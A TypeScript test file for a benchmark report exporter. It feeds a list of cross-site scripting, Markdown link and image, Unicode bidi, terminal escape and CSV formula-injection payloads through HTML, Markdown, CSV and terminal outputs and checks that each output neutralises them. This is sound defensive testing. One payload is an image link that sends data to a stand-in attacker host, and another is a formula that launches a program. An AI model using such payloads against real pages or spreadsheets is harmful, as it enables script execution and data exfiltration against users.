import { expect, test } from 'vitest';
import { evaluatedRun, sweptRun } from '../../../test/sample-loads.ts';
import { sampleRun } from '../../../test/sample-run.ts';
import { summarise } from '../benchmark/summarise.ts';
import { toCsv } from './csv.ts';
import { requestDetail } from './detail.ts';
import { toHtml } from './html.ts';
import { toMarkdown } from './markdown.ts';
import { toTextTable } from './table.ts';
import { buildReport } from './view.ts';

const ATTACKS = [
  '<img src=x onerror=alert(1)>',
  '</script><script>alert(1)</script>',
  '"><svg onload=alert(1)>',
  "' onmouseover='alert(1)",
  '[click](javascript:alert(1))',
  '![pixel](https://evil.example/?d=1)',
  '<https://evil.example>',
  'https://evil.example/a www.evil.example me@evil.example @team #1',
  '[x](command:workbench.action.terminal.new)',
  '$(alert) $x^2$ :smile: `code` | cell',
  '\u202egnp.exe \u2066hidden\u2069 \u200bzero\u200bwidth \ufeff',
  '\u001b[31mred\u001b]0;title\u0007',
  '=HYPERLINK("https://evil.example","x")',
  '+1+cmd|calc!A0',
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  'lone \ud800 surrogate',
];

/** One run in which every text that comes from outside is an attack. */
function attackedRun() {
  const run = sampleRun({
    models: ATTACKS,
    prompts: ATTACKS,
    requests: ATTACKS.length,
    warmup: 0,
    answer: ATTACKS.join('\n'),
  });
  const all = ATTACKS.join(' ');
  const error = { code: 'server' as const, message: all };
  return {
    manifest: { ...run.manifest, title: all, runId: ATTACKS[2]!, stopMessage: all },
    prompts: run.prompts.map((prompt, index) => ({ ...prompt, id: ATTACKS[index]! })),
    records: run.records.map((record, index) => ({
      ...record,
      id: `${ATTACKS[index % ATTACKS.length]} ${index}`,
      promptId: ATTACKS[Number(record.promptId.slice(1)) - 1]!,
      finishReason: ATTACKS[0],
      ...(record.status === 'error' ? { error, attempts: [{ ...record.attempts[0]!, error }] } : {}),
    })),
    summary: {
      ...run.summary,
      warnings: [all],
      models: run.summary.models.map((model) => ({ ...model, errors: { [ATTACKS[0]!]: 3 } })),
    },
  };
}

/** A run whose checks, judges, rubric and references are attacks, too, on models that are. */
function attackedEvaluation() {
  const all = ATTACKS.join(' ');
  const run = evaluatedRun(all);
  const [small, medium] = [ATTACKS[0]!, ATTACKS[12]!];
  const renamed = (model: string) => ({ 'small-8b': small, 'medium-70b': medium })[model] ?? model;
  const { plan } = run.manifest;
  const models = plan.models.map((model) => ({ ...model, model: renamed(model.model), priceAsOf: all }));
  const manifest = { ...run.manifest, title: all, plan: { ...plan, models } };
  const records = [...run.records].map((record) => ({ ...record, model: renamed(record.model), answer: all }));
  const summary = summarise(manifest, run.prompts, records, run.outcomes);
  return { ...run, manifest, records, summary: { ...summary, invalid: all } };
}

/** Every run that an attacker could have had a hand in. */
const attacked = [attackedRun(), attackedEvaluation(), sweptRun()];

/** What must be in no output: marks that reorder, hide or control. */
const SHAPELESS = /[\u202a-\u202e\u2066-\u2069\u200b\ufeff\p{Cs}]|(?![\r\n\t])\p{Cc}/u;

test('an HTML report made of attacks holds no script, no handler, no address and no element of theirs', () => {
  const html = attacked.map((run) => toHtml(buildReport(run))).join('\n');
  const tags = html.match(/<[a-z][^>]*>/gi) ?? [];
  const names = new Set(tags.map((tag) => /^<([a-z0-9]+)/i.exec(tag)![1]!.toLowerCase()));
  for (const name of ['script', 'img', 'iframe', 'object', 'a', 'link', 'form', 'foreignobject', 'use', 'image'])
    expect(names).not.toContain(name);
  for (const tag of tags) {
    const outsideQuotes = tag.replace(/"[^"]*"/g, '""');
    expect(outsideQuotes).not.toMatch(/\son\w+\s*=|\s(?:href|src|xlink:href)\s*=/i);
  }
  expect(html).not.toMatch(SHAPELESS);
  expect(html).toContain('&lt;img src=x onerror=alert(1)&gt;');
});

test('the content policy of the exported page allows styles and nothing else', () => {
  const html = toHtml(buildReport(attackedRun()));
  const [, policy] = /http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(html)!;
  expect(policy).toContain("default-src 'none'");
  expect(policy).not.toContain('script-src');
  expect(policy).not.toMatch(/https?:/);
});

test('Markdown made of attacks has no image, link, HTML, formula or reference of theirs', () => {
  const text = attacked.map((run) => toMarkdown(buildReport(run))).join('\n');
  const active = text.replace(/\\[!-/:-@[-`{-~]/g, '');
  expect(active.match(/!\[|\]\(|<[a-z/!]|`|\$|https?:\/\/|www\.|@\w|#\d/i)?.[0]).toBeUndefined();
  expect(text).not.toMatch(SHAPELESS);
  const columns = (line: string) => (line.replace(/\\\|/g, '').match(/\|/g) ?? []).length;
  // Every row of a table has as many cells as its head.
  let width = 0;
  for (const line of text.split('\n')) {
    if (!line.startsWith('| ')) width = 0;
    else if (width === 0) width = columns(line);
    else expect(columns(line)).toBe(width);
  }
});

test('no cell of the CSV is a formula for a spreadsheet', () => {
  const csv = attacked.map((run) => toCsv(run)).join('');
  for (const cell of csvCells(csv)) expect(cell).not.toMatch(/^\s*[=+\-@]/);
  expect(csvCells(csv).some((cell) => cell.startsWith("'=HYPERLINK"))).toBe(true);
  expect(csv).not.toMatch(SHAPELESS);
});

test('CSV keeps commas, quotes and line ends inside their cells', () => {
  const run = sampleRun({ models: ['a,"b"'], prompts: ['one, "two"\nthree'], requests: 2, warmup: 0 });
  const csv = toCsv(run);
  expect(csv.trimEnd().split('\r\n')).toHaveLength(3);
  expect(csvCells(csv)).toContain('lab/a,"b"');
  expect(csvCells(csv)).toContain('one, "two" three');
});

test('the terminal table holds no control character but line ends', () => {
  const text = attacked.map((run) => toTextTable(buildReport(run))).join('');
  expect(text).not.toMatch(/(?!\n)\p{Cc}|[\u202a-\u202e\u2066-\u2069\u200b]/u);
});

test('a detail keeps the lines of an answer and nothing that reorders or hides', () => {
  const run = attackedRun();
  const record = run.records.find((candidate) => candidate.answer !== undefined)!;
  const detail = requestDetail(run, record.id)!;
  expect(detail.answer!.split('\n').length).toBeGreaterThan(10);
  expect(detail.answer).not.toMatch(SHAPELESS);
  expect(requestDetail(run, 'nobody')).toBeUndefined();
});

test('a detail shows what judges, checks and people said without what reorders or hides', () => {
  const run = attackedEvaluation();
  const judged = run.outcomes!.find((outcome) => outcome.kind === 'judge')!;
  const detail = requestDetail(run, judged.record)!;
  expect(detail.judgements.length).toBe(2);
  expect(detail.checks.length).toBe(2);
  const told = JSON.stringify([detail.judgements, detail.checks, detail.pairs, detail.reference]);
  expect(told).toContain('onerror');
  expect(told.replaceAll('\\n', '').replaceAll('\\t', '')).not.toMatch(SHAPELESS);
});

/** RFC 4180, read back. */
function csvCells(csv: string): string[] {
  return [...csv.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(?:,|\r\n)/g)].map(
    (match) => match[1]?.replaceAll('""', '"') ?? match[2] ?? '',
  );
}
